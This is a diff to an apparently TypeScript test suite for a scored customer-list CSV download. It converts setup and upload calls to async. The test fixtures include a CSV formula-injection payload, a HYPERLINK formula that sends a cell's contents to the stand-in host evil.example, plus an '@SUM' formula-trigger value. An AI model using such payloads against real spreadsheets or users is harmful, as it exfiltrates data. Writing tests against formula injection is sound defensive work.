@@ -84,14 +84,14 @@ describe('escaping formulas in written CSV', () => {
 
 describe('the scored list download', () => {
   let db: Db;
-  beforeAll(() => {
-    db = useTempDataDir();
+  beforeAll(async () => {
+    db = await useTempDataDir();
   });
 
   it('writes text cells from the new rows as text, not formulas', async () => {
-    const training = uploadCsv(db, 'customers.csv', customerRows(200));
+    const training = await uploadCsv(db, 'customers.csv', customerRows(200));
     const attack = '=HYPERLINK("http://evil.example/?leak="&A2,"Click for prize")';
-    const list = uploadCsv(db, 'new-customers.csv', [
+    const list = await uploadCsv(db, 'new-customers.csv', [
       'name,spend,visits,region',
       `"${attack.replaceAll('"', '""')}",90,15,north`,
       '@SUM(1+1),-5,2,"-east"',
